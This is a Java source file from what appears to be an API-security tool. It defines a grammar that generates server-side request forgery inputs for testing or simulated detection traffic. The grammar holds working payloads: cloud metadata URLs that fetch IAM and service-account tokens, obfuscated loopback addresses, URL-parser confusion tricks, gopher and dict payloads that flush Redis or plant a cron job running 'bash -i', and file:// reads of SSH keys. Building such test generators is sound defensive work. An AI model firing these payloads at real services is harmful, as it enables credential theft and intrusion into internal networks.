package ai.kongguard.traffic.attack;

import ai.kongguard.event.ThreatType;
import ai.kongguard.traffic.attack.grammar.Grammar;
import java.util.List;

/** Having the server ask hosts that only it can reach. */
final class RequestForgery {

    private static final Grammar GRAMMAR = Vocabulary.GRAMMAR.extend(
            """
            http ::=
              6×http
              2×https
              HTTP
              hTTp
            metadata ::=
              2×«http»://«meta_address»/«latest/meta-data¦latest/user-data¦metadata/v1¦computeMetadata/v1»/«?«word»/»«?«letters 2..8»»
              4×«http»://«meta_address»/latest/meta-data/«?«ami-id¦hostname¦iam/security-credentials/«?«word»-role»¦local-ipv4¦public-keys/0/openssh-key¦instance-id¦network/interfaces/macs/»»
              «http»://«meta_address»/latest/«user-data¦dynamic/instance-identity/document¦api/token»
              2×«http»://«metadata.google.internal¦metadata¦169.254.169.254»/computeMetadata/v1«¦beta1»/«project/project-id¦instance/service-accounts/default/token¦instance/attributes/ssh-keys¦?recursive=true¦instance/name»
              «http»://«meta_address»/metadata/«instance?api-version=20«17..23»-«10..12»-01¦identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/¦v1/maintenance¦v1.json»
              «http»://«100.100.100.200¦100.100.100.200:80»/latest/meta-data/«?«instance-id¦ram/security-credentials/»»
              «http»://192.0.0.192/latest/«?«meta-data/¦user-data/¦attributes/»»
              «http»://«meta_address»/«openstack/latest/meta_data.json¦opc/v«1..2»/instance/¦hetzner/v1/metadata¦v1/user-data¦2009-04-04/meta-data/»
              «http»://169.254.170.2/v2/credentials/«?«hex 8..8»-«hex 4..4»»
              «http»://rancher-metadata/«?latest/»
              «http»://instance-data/latest/meta-data/
              «http»://[fd00:ec2::254]/latest/meta-data/
            meta_address ::=
              6×169.254.169.254
              169.254.169.254:80
              2852039166
              0xA9FEA9FE
              0xa9.0xfe.0xa9.0xfe
              0251.0376.0251.0376
              [::ffff:169.254.169.254]
              [::ffff:a9fe:a9fe]
              169.254.43518
              425.510.425.510
              7147006462
              ①⑥⑨.②⑤④.①⑥⑨.②⑤④
              169。254。169。254
            self_address ::=
              5×127.0.0.1
              5×localhost
              2×0.0.0.0
              0
              127.1
              127.0.1
              127.«0..255».«0..255».«1..254»
              2130706433
              «100000000..999999999»
              0x7f000001
              0x7f.0x0.0x0.0x1
              0x7f.1
              0177.0.0.1
              0177.0000.0000.0001
              017700000001
              00000177.00.00.01
              2×[::1]
              [::]
              [0:0:0:0:0:0:0:1]
              [::ffff:127.0.0.1]
              [::ffff:7f00:1]
              [0:0:0:0:0:ffff:127.0.0.1]
              [::1%25«letters 2..4»«0..9»]
              ①②⑦.⓪.⓪.①
              ⓛⓞⓒⓐⓛⓗⓞⓢⓣ
              127。0。0。1
              localhost.localdomain
              LOCALHOST
              loopback
              ip6-localhost
              localtest.me
              127.0.0.1.
              %6c%6f%63%61%6c%68%6f%73%74
              3232235«521..777»
              0x«hex 8..8»
            inner_name ::=
              «kubernetes.default.svc¦kubernetes.default.svc.cluster.local¦kubernetes¦consul¦redis¦mysql¦postgres¦mongo»
              «elasticsearch¦rabbitmq¦memcached¦vault¦jenkins¦gitlab¦etcd¦prometheus¦grafana¦docker¦admin¦intranet»
              «word».«internal¦local¦svc.cluster.local¦corp¦lan¦intra»
              host.docker.internal
              «db¦cache¦queue¦api¦auth»«?-«1..9»»
            private_address ::=
              3×10.«0..255».«0..255».«1..254»
              3×192.168.«0..255».«1..254»
              2×172.«16..31».«0..255».«1..254»
              169.254.«0..255».«1..254»
              32322«35777..99999»
              [fc00::«hex 1..4»]
              [fe80::«hex 4..4»:«hex 4..4»]
              0xc0a8«hex 4..4»
              0xc0.0xa8.0x«hex 2..2».0x«hex 2..2»
              100.64.«0..255».«1..254»
            inner_port ::=
              6×:«22¦25¦80¦443¦3306¦5432¦6379¦8080¦8443¦8500¦9200¦9090¦11211¦27017¦2375¦2379¦5000¦8000¦10250¦6443¦15672¦5984¦21¦3389»
              :«1..65535»
              2×«»
            inner_path ::=
              4×/
              «»
              /«admin¦server-status¦v1/agent/self¦_cat/indices¦manager/html¦actuator/env¦health¦metrics¦status¦api/v1/pods»
              /«v1.«24..44»/containers/json¦solr/admin/cores¦jmx-console/¦console¦phpmyadmin/¦.env¦latest/¦v2/keys/?recursive=true»
              /«word»
              /«word»?«name»=«value»
            inner ::=
              4×«http»://«self_address»«inner_port»«inner_path»
              3×«http»://«private_address»«inner_port»«inner_path»
              2×«http»://«inner_name»«inner_port»«inner_path»
              «//¦///¦\\/\\/¦/\\¦http:/¦http:///¦https:¦http:\\\\»«self_address»«inner_port»«inner_path»
              «self_address»«inner_port»«inner_path»
            plain_address ::=
              4×192.168.«0..255».«1..254»
              3×10.«0..255».«0..255».«1..254»
              2×172.«16..31».«0..255».«1..254»
              127.«0..9».«0..9».«1..254»
              169.254.«1..254».«1..254»
              0.0.0.0
              [«fe80¦fd00¦fc00»::«hex 1..4»«?:«hex 1..4»»]
              [::«ffff:10.«0..255».«0..255».«1..254»¦1¦»]
              localhost
            plain_path ::=
              5×«»
              2×/
              /cgi-bin/«luci¦«word»¦«name».cgi»
              /«admin¦login¦status¦setup¦config¦cgi-bin¦manager¦console¦phpmyadmin»«?.«php¦html¦asp¦cgi»»
              /«word»«?/«letters 2..8»»
            plain ::=
              5×«http¦https»://«plain_address»«plain_path»
              4×«http¦https»://«plain_address»:«1..65535»«plain_path»
            confused ::=
              3×«http»://«example.com¦«host»¦«word»»@«self_address»«inner_port»«inner_path»
              2×«http»://«self_address»«inner_port»#@«host»/
              «http»://«self_address»«inner_port»«\\@¦%23@¦?@¦%2523@¦;@¦&@¦%00@¦%0d%0a»«host»«?#@«host»/»
              «http»://«host»«#¦\\¦%09¦%5c»@«self_address»/
              «http»://«self_address»«inner_port»«%2f%2e%2e¦/./¦//¦/%00¦?.jpg¦#.png¦;.css»
              2×«http»://«host»/«redirect¦redir¦r¦go¦302».php?«url¦u¦to»=http://«self_address»«inner_port»«inner_path»
              «http»://«word»:«word»@«private_address»«inner_port»/
              «http»://«self_address»:«80¦8080»\\@«@upper «host»»/
              url:«http»://«self_address»«inner_port»
              «http»://«self_address»«sp»«host»«inner_path»
              «http»://«host»?@«self_address»/
              «http»://[«self_address»]«inner_port»/
              view-source:«http»://«self_address»/
              «http»%3a%2f%2f«self_address»%3a«1..65535»%2f
            payload ::=
              2×*1%0d%0a$«1..9»%0d%0aflushall%0d%0a
              FLUSHALL
              «@percent *«1..4»|$«1..9»|set|$«1..9»|«name»|»
              %0d%0a%0d%0a«letters 3..7»%0d%0a
              %00%01%00%00%00«alnum 3..9»
              EHLO%20«host»%0d%0aMAIL%20FROM%3A%3C«word»%40«host»%3E
              stats%0aquit
              GET%20/«word»%20HTTP/1.1%0d%0aHost:%20«self_address»%0d%0a
              config%20set%20dir%20/var/«www/html¦spool/cron»%0d%0aconfig%20set%20dbfilename%20«name».php
              *3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$«10..99»%0d%0a%0a%0a*/1 * * * * bash -i
              %a3%00%00%01%85%a6%ff%01%00%00%00%01%21
            somewhere ::=
              3×«self_address»
              «private_address»
              «inner_name»
            scheme ::=
              4×gopher://«somewhere»«inner_port»/_«payload»
              3×dict://«somewhere»«inner_port»/«stat¦stats¦info¦flushall¦d:«name»¦config:set:dir:/tmp¦set:«name»:«name»»
              2×«ftp¦sftp¦tftp¦scp¦ssh2»://«somewhere»«inner_port»/«name»
              2×«ldap¦ldaps»://«somewhere»«inner_port»/«%0astats%0aquit¦dc=«word»,dc=«word»¦«name»»
              3×file://«¦localhost¦127.0.0.1»/«secret_file»
              file:///«c:/windows/win.ini¦proc/self/environ¦proc/net/arp¦home/«word»/.ssh/id_rsa»
              netdoc:///«secret_file»
              jar:«http¦file»://«somewhere»«inner_port»/«name».jar!/«name»
              «imap¦pop3¦smtp¦telnet¦mysql¦rtsp¦smb¦rmi¦jdbc:mysql¦redis»://«somewhere»«inner_port»/«?«name»»
              gopher://«host»«inner_port»/«1..9»«alnum 0..9»
              dict://«word»:«word»@«host»:«port»/d:«word»
              «local_file¦local-file¦unc¦php://filter/resource=http¦url:file»://«/¦»«secret_file»
              blob:http://«self_address»/«hex 8..8»
            rebinding ::=
              3×«http»://«dotted».«nip.io¦sslip.io¦xip.io¦traefik.me»«inner_port»«inner_path»
              2×«http»://«hex 8..8».«hex 8..8».rbndr.us«inner_port»«inner_path»
              «http»://make-«dotted»-rebind-«dotted»-rr.1u.ms«inner_path»
              «http»://A.«dotted».«1..9»time.«169.254.169.254¦«dotted»».forever.«hex 8..36».rebind.«host»/
              2×«http»://«spoofed¦local¦internal¦127-0-0-1¦rebind¦ns1».«host»«inner_port»«inner_path»
              «http»://customer-«1..9».«localhost¦127.0.0.1».«host»/
              «http»://«word».«dotted».«nip.io¦sslip.io»«inner_path»
            dotted ::=
              127.0.0.1
              127-0-0-1
              10.«0..255».«0..255».«1..254»
              192-168-«0..255»-«1..254»
              169.254.169.254
              7f000001
            """);

    private static final Placement[] PLACES = {
        Placement.QUERY,
        Placement.QUERY,
        Placement.QUERY,
        Placement.FORM,
        Placement.JSON,
        Placement.JSON,
        Placement.HEADER,
        Placement.XML_LEAF,
        Placement.GRAPHQL,
        Placement.JSON_IN_FORM
    };

    static final List<AttackFamily> FAMILIES = List.of(
            family("cloud_metadata", "metadata"),
            family("internal_address", "inner"),
            family("private_address", "plain"),
            family("confused_address", "confused"),
            family("other_scheme", "scheme"),
            family("dns_rebinding", "rebinding").reservedForSimulation());

    private RequestForgery() {}

    private static AttackFamily family(String name, String rule) {
        return AttackFamily.of(name, ThreatType.SSRF, GRAMMAR.from(rule)).in(PLACES);
    }
}
